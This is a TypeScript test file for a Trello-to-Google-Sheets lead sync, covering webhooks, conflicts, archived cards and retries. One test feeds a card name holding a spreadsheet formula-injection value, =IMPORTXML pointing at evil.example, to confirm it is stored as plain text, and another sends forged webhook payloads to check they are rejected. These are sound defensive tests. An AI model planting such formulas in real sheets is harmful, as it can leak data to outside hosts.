// Trello → Sheet on the built bundle: webhook deliveries, the scheduled pull, conflicts, archive/delete, board-made cards.
import { sampleRows, SyncWorld, WEB_APP_URL } from './sync-world';

/** A synced world with a registered webhook; L1 NEW, L2 CONTACTED, L3 QUALIFIED, L4 COMPLETED, L5 LOST. */
function syncedWorld(options: { webhook?: boolean } = {}): SyncWorld {
  const world = new SyncWorld({ rows: sampleRows(5), webApp: true });
  world.run('installTriggers');
  if (options.webhook !== false) world.registerWebhook();
  world.run('syncNow');
  world.deliver(); // the echoes of the first sync
  return world;
}

/** The status word a doPost (by default the last) answered: Trello itself only ever sees the web app's 302. */
function doPostAnswer(world: SyncWorld, execution = world.gas.executions.at(-1)): string {
  if (execution?.functionName !== 'doPost') throw new Error(`expected a doPost execution, got ${execution?.functionName}`);
  return (JSON.parse((execution.returnValue as { getContent(): string }).getContent()) as { status: string }).status;
}

describe('webhook deliveries', () => {
  it('moves the status with the card, keeping QUALIFIED and LOST where they still fit', () => {
    const world = syncedWorld();
    world.person.moves(world.cardOf('L1')!.id, 'IN_PROGRESS');
    world.person.moves(world.cardOf('L3')!.id, 'DONE');
    world.person.renames(world.cardOf('L5')!.id, 'Lead 5 (lost to a rival)');
    const runs = world.deliver();
    // Each drag is two deliveries (the list, then the position), the rename one.
    expect(runs.map((run) => [run.functionName, run.error])).toEqual(Array(5).fill(['doPost', undefined]));
    expect(world.lead('L1')?.status).toBe('CONTACTED');
    expect(world.lead('L3')?.status).toBe('COMPLETED');
    expect(world.lead('L5')).toMatchObject({ status: 'LOST', name: 'Lead 5 (lost to a rival)' });
    world.person.moves(world.cardOf('L2')!.id, 'IN_PROGRESS'); // moved within its own list's column: CONTACTED stays
    world.deliver();
    expect(world.lead('L2')?.status).toBe('CONTACTED');
  });

  it('costs at most 4 Sheets calls and 2 Trello requests per delivery; the drop position that follows a drag costs no Trello request', () => {
    const world = syncedWorld();
    world.person.moves(world.cardOf('L4')!.id, 'TODO');
    const before = world.trello.requests.length;
    const [move, drop] = world.deliver();
    expect(world.lead('L4')?.status).toBe('NEW');
    expect(move.counters.sheetsDataCalls).toBeLessThanOrEqual(4);
    expect(move.counters.urlFetchRequests).toBeLessThanOrEqual(2);
    expect(drop.counters).toMatchObject({ urlFetchRequests: 0 });
    expect(drop.counters.sheetsDataCalls).toBeLessThanOrEqual(1);
    expect(world.trello.requests.length - before).toBeLessThanOrEqual(2);
  });

  it('keeps the row of an archived or deleted card, marks it, creates nothing, and syncs an unarchived card again', () => {
    const world = syncedWorld();
    const archived = world.cardOf('L1')!.id;
    world.person.archives(archived);
    world.person.deletes(world.cardOf('L2')!.id);
    world.deliver();
    world.run('syncNow');
    expect(world.lead('L1')).toMatchObject({ status: 'NEW', trello_card_id: archived });
    expect(world.leads.cell(2, 6).note).toContain('archived');
    expect(world.leads.cell(3, 6).note).toContain('deleted');
    expect(world.cards('all')).toHaveLength(4);
    world.person.unarchives(archived);
    world.person.moves(archived, 'DONE');
    world.deliver();
    world.run('syncNow');
    expect(world.lead('L1')?.status).toBe('COMPLETED');
    expect(world.leads.cell(2, 6).note).toBe('');
  });

  it('looks again when a person replaces the card id of a row whose card was archived', () => {
    const world = syncedWorld();
    world.person.archives(world.cardOf('L1')!.id);
    world.deliver();
    world.run('syncNow');
    world.leads.typeAsUser(2, 6, [["'5f0000000000000000000000"]]);
    world.run('syncNow');
    expect(world.leads.cell(2, 6).note).toContain('deleted');
    const other = world.cardOf('L4')!.id;
    world.leads.typeAsUser(5, 6, [['']]);
    world.leads.typeAsUser(2, 6, [[`'${other}`]]);
    world.run('syncNow');
    expect(world.leads.cell(2, 6).note).toBe('');
    expect(world.trello.card(other)?.name).toBe('Lead 1');
  });

  it('marks the row, instead of blocking it, when a card is deleted between the read and the write', () => {
    const world = syncedWorld({ webhook: false });
    const cardId = world.cardOf('L2')!.id;
    world.leads.typeAsUser(3, 4, [['LOST']]);
    // The card disappears while the run is between its board read and its write.
    const handle = world.trello.handle.bind(world.trello);
    world.trello.handle = (request) => {
      if (request.method === 'PUT' && request.url.includes(cardId)) world.person.deletes(cardId);
      return handle(request);
    };
    world.run('syncNow');
    world.trello.handle = handle;
    world.run('syncNow');
    expect(world.leads.cell(3, 6).note).toContain('deleted');
    expect(world.lead('L2')?.status).toBe('LOST');
    expect(world.cards('all')).toHaveLength(4);
  });

  it('creates a fresh card when the user clears the id of a row whose card was deleted', () => {
    const world = syncedWorld();
    world.person.deletes(world.cardOf('L2')!.id);
    world.deliver();
    world.leads.typeAsUser(3, 6, [['']]);
    world.run('syncNow');
    expect(world.cardOf('L2')?.name).toBe('Lead 2');
    expect(world.cards()).toHaveLength(5);
  });

  it('adds a card created on a mapped list as a new lead, as plain text, and marks the card', () => {
    const world = syncedWorld();
    const card = world.person.creates('IN_PROGRESS', '=IMPORTXML("https://evil.example","//a")');
    world.person.creates('TODO', '+1 555 0100');
    world.deliver();
    const [header, ...rows] = world.sheetValues();
    expect(header).toHaveLength(6);
    const imported = rows.find((row) => row[5] === card.id);
    expect(imported).toEqual([expect.stringMatching(/^TRELLO-/), '=IMPORTXML("https://evil.example","//a")', '', 'CONTACTED', 'Trello', card.id]);
    const row = rows.indexOf(imported!) + 2;
    expect(world.leads.cell(row, 2).formula).toBe('');
    expect(rows.some((cells) => cells[1] === '+1 555 0100')).toBe(true);
    expect(world.trello.card(card.id)?.desc).toContain(`Lead ID: ${String(imported![0])}`);
    world.run('syncNow');
    expect(world.sheetValues()).toHaveLength(8);
    expect(world.cards()).toHaveLength(7);
  });

  it('ignores a missing or wrong secret, another board, a forged payload and malformed bodies, always answering', () => {
    const world = syncedWorld();
    const secret = world.settingsStore().get('WEBHOOK_SECRET')!;
    const cardId = world.cardOf('L1')!.id;
    const move = {
      model: { id: world.workspace.board.id },
      action: { id: '6a0000000000000000000001', type: 'updateCard', date: new Date(world.clock.now()).toISOString(), data: { card: { id: cardId, name: 'Lead 1' }, listAfter: { id: world.listId('DONE') }, old: { idList: world.listId('TODO') } } },
    };
    const post = (query: string, body: string) => {
      world.gas.webApp.handle({ method: 'POST', url: `${WEB_APP_URL}${query}`, headers: { 'content-type': 'application/json' }, body });
      return doPostAnswer(world);
    };
    const before = world.trello.requests.length;
    for (const [query, body] of [
      ['', JSON.stringify(move)],
      ['?secret=wrong', JSON.stringify(move)],
      [`?secret=${secret}`, JSON.stringify({ ...move, model: { id: '6a00000000000000000000ff' } })],
      [`?secret=${secret}`, ''],
      [`?secret=${secret}`, '{"action":'],
      [`?secret=${secret}`, '[1,2,3]'],
      [`?secret=${secret}`, JSON.stringify({ model: { id: world.workspace.board.id }, action: { id: 42, type: ['x'] } })],
      [`?secret=${secret}`, 'x'.repeat(300_000)],
    ]) {
      expect(post(query, body)).toBe('ignored');
      expect(world.gas.executions.at(-1)?.error).toBeUndefined();
    }
    expect(world.trello.requests.length).toBe(before);
    // Forged: the right secret and board, but the card did not move. The card is read again and nothing changes.
    expect(post(`?secret=${secret}`, JSON.stringify(move))).toBe('ok');
    expect(world.lead('L1')?.status).toBe('NEW');
    expect(world.trello.requests.length).toBe(before + 1);
  });

  it('ignores every delivery while no webhook secret is set, even one with an empty secret', () => {
    const world = syncedWorld({ webhook: false });
    const body = JSON.stringify({ model: { id: world.workspace.board.id }, action: { id: '6a0000000000000000000002', type: 'createCard', date: new Date(world.clock.now()).toISOString(), data: { card: { id: '6a0000000000000000000003', name: 'Forged' } } } });
    for (const query of ['', '?secret=', '?secret=undefined']) {
      world.gas.webApp.handle({ method: 'POST', url: `${WEB_APP_URL}${query}`, headers: {}, body });
      expect(doPostAnswer(world)).toBe('ignored');
      expect(world.gas.executions.at(-1)?.counters).toMatchObject({ sheetsDataCalls: 0, urlFetchRequests: 0 });
    }
  });

  it('applies a delivery once, however often Trello resends it after the 302', () => {
    const world = syncedWorld();
    world.person.moves(world.cardOf('L1')!.id, 'DONE');
    const first = world.deliver();
    expect(first).toHaveLength(2); // the list change and the drop position
    const requestsAfterFirst = world.trello.requests.length;
    world.clock.advance(31_000);
    const resent = world.deliver();
    expect(resent.length).toBeGreaterThanOrEqual(1); // Trello retries: a 302 is not a 2xx
    expect(new Set(resent.map((execution) => doPostAnswer(world, execution)))).toEqual(new Set(['duplicate']));
    expect(world.trello.requests.length).toBe(requestsAfterFirst);
    expect(world.lead('L1')?.status).toBe('COMPLETED');
  });

  it('recognises the echo of its own move without reading the card again', () => {
    const world = syncedWorld();
    world.leads.typeAsUser(2, 4, [['LOST']]);
    world.run('syncNow');
    const before = world.trello.requests.length;
    const echoes = world.deliver();
    expect(echoes).toHaveLength(1);
    expect(world.trello.requests.length).toBe(before);
    expect(world.lead('L1')?.status).toBe('LOST');
  });

  it('keeps a delivery whose card could not be read (Trello down) for the next run, and the resend too', () => {
    const world = syncedWorld();
    world.person.moves(world.cardOf('L3')!.id, 'TODO');
    world.trello.faults.failNext5xx = 50;
    const [failed] = world.deliver();
    expect(failed.error).toBeUndefined();
    expect(world.lead('L3')?.status).toBe('QUALIFIED');
    expect(Object.keys(world.settingsStore().entries()).filter((key) => key.startsWith('CARD_HINT:'))).toHaveLength(1);
    world.trello.faults.failNext5xx = 0;
    world.gas.userEdit('LeadTracker', 'B2', [['Lead 1 renamed']]); // the next run is an edit trigger's
    expect(world.lead('L3')?.status).toBe('NEW');
    expect(Object.keys(world.settingsStore().entries()).filter((key) => key.startsWith('CARD_HINT:'))).toEqual([]);
  });

  it('stores a delivery that finds the lock busy and applies it at the next run', () => {
    const world = syncedWorld();
    world.person.moves(world.cardOf('L2')!.id, 'TODO');
    const release = world.gas.holdScriptLock();
    const [queued] = world.deliver();
    expect(queued.error).toBeUndefined();
    expect(world.lead('L2')?.status).toBe('CONTACTED');
    const health = world.run<{ getContent(): string }>('doGet', { parameter: {} }, { hasUi: false }).returnValue;
    expect(JSON.parse(health!.getContent())).toMatchObject({ queued: { webhookDeliveries: 1 } });
    release();
    world.gas.userEdit('LeadTracker', 'B6', [['Lead 5 renamed']]); // the next run is an edit trigger's
    expect(world.lead('L2')?.status).toBe('NEW');
  });
});

describe('without a webhook', () => {
  it('the scheduled run pulls moves, renames and new cards from the board', () => {
    const world = syncedWorld({ webhook: false });
    world.person.moves(world.cardOf('L1')!.id, 'DONE');
    world.person.renames(world.cardOf('L2')!.id, 'Lead 2 (big)');
    world.person.creates('TODO', 'Walk-in');
    world.gas.advanceTime(60_000);
    expect(world.lead('L1')?.status).toBe('COMPLETED');
    expect(world.lead('L2')?.name).toBe('Lead 2 (big)');
    expect(world.sheetValues().some((row) => row[1] === 'Walk-in')).toBe(true);
  });
});

describe('conflicts', () => {
  it('lets the newer change win: a later board move beats an earlier sheet edit', () => {
    const world = syncedWorld({ webhook: false });
    const release = world.gas.holdScriptLock(); // the edit cannot sync at once: its time is recorded
    world.gas.userEdit('LeadTracker', 'D2', [['CONTACTED']]);
    release();
    world.clock.advance(5_000);
    world.person.moves(world.cardOf('L1')!.id, 'DONE');
    world.run('syncNow');
    expect(world.lead('L1')?.status).toBe('COMPLETED');
    expect(world.listNameOf(world.cardOf('L1'))).toBe('DONE');
    const log = world.spreadsheet.sheet('Sync Log')!.values();
    expect(log.some((line) => line[1] === 'conflict' && line[2] === 'L1')).toBe(true);
  });

  it('reads every page of a busy board: a move older than the newest 1,000 actions still beats an earlier sheet edit', () => {
    const world = syncedWorld({ webhook: false });
    world.run('onSchedule', {}, { hasUi: false }); // the actions cursor now stands after the first sync
    const release = world.gas.holdScriptLock();
    world.gas.userEdit('LeadTracker', 'D2', [['CONTACTED']]);
    release();
    world.clock.advance(5_000);
    world.person.moves(world.cardOf('L1')!.id, 'DONE');
    world.clock.advance(5_000);
    const busy = world.cardOf('L2')!.id;
    for (let i = 0; i < 600; i++) world.person.moves(busy, i % 2 === 0 ? 'TODO' : 'IN_PROGRESS'); // 1,200 actions
    world.person.moves(world.cardOf('L4')!.id, 'TODO');
    const before = world.trello.requests.length;
    world.run('onSchedule', {}, { hasUi: false });
    expect(world.lead('L1')?.status).toBe('COMPLETED');
    expect(world.listNameOf(world.cardOf('L1'))).toBe('DONE');
    expect(world.lead('L2')?.status).toBe('CONTACTED');
    expect(world.lead('L4')?.status).toBe('NEW');
    expect(world.trello.requests.slice(before).filter((request) => request.status === 429)).toEqual([]);
    expect(world.trello.requests.length - before).toBeLessThanOrEqual(3); // the batch, one older page, one card write at most
  });

  it('lets the newer change win: a later sheet edit beats an earlier board move', () => {
    const world = syncedWorld({ webhook: false });
    world.person.moves(world.cardOf('L1')!.id, 'DONE');
    world.clock.advance(5_000);
    const release = world.gas.holdScriptLock();
    world.gas.userEdit('LeadTracker', 'D2', [['CONTACTED']]);
    release();
    world.run('syncNow');
    expect(world.lead('L1')?.status).toBe('CONTACTED');
    expect(world.listNameOf(world.cardOf('L1'))).toBe('IN_PROGRESS');
  });

  it('lets the sheet win when its edit time is unknown (a script or formula changed it)', () => {
    const world = syncedWorld({ webhook: false });
    world.person.moves(world.cardOf('L1')!.id, 'DONE');
    world.clock.advance(5_000);
    world.leads.typeAsUser(2, 4, [['CONTACTED']]); // no trigger
    world.run('syncNow');
    expect(world.listNameOf(world.cardOf('L1'))).toBe('IN_PROGRESS');
  });
});

describe('deleted rows', () => {
  it('leaves the card of a deleted row on the board, logs it, and never imports it again', () => {
    const world = syncedWorld({ webhook: false });
    const cardId = world.cardOf('L3')!.id;
    world.leads.deleteRowsAsUser(4, 1);
    world.run('syncNow');
    world.run('syncNow');
    expect(world.trello.card(cardId)?.closed).toBe(false);
    expect(world.sheetValues()).toHaveLength(5);
    const log = world.spreadsheet.sheet('Sync Log')!.values();
    expect(log.filter((line) => line[2] === 'L3' && String(line[3]).includes('deleted'))).toHaveLength(1);
  });

  it('archives the card instead when that setting is on, once the row is still gone at the next full run', () => {
    const world = syncedWorld({ webhook: false });
    world.settingsStore().set('ARCHIVE_CARD_ON_ROW_DELETE', 'true');
    const cardId = world.cardOf('L3')!.id;
    world.leads.deleteRowsAsUser(4, 1);
    world.run('syncNow');
    expect(world.trello.card(cardId)?.closed).toBe(false);
    world.run('syncNow');
    expect(world.trello.card(cardId)?.closed).toBe(true);
    const log = world.spreadsheet.sheet('Sync Log')!.values().map((line) => line[3]);
    expect(log).toContain('The row is still gone; its card was archived.');
  });
});

describe('log lines of webhook runs', () => {
  it('wait within the property size limit, in bytes, whatever the script of the names, and reach the Sync Log', () => {
    const world = syncedWorld();
    // 20 lines of about 170 characters: under 8,000 characters, but over 9 KB of UTF-8.
    for (let n = 0; n < 20; n++) world.person.creates('TODO', `見込み客 ${n} ${'漢字'.repeat(75)}`);
    const runs = world.deliver();
    expect(runs.map((run) => run.error)).toEqual(Array(20).fill(undefined));
    expect(runs.flatMap((run) => run.logs)).toEqual([]);
    expect(world.sheetValues().filter((row) => String(row[1]).startsWith('見込み客'))).toHaveLength(20);
    world.run('syncNow');
    const log = world.spreadsheet.sheet('Sync Log')!.values();
    expect(log.some((line) => String(line[3]).includes('見込み客 19'))).toBe(true);
  });
});
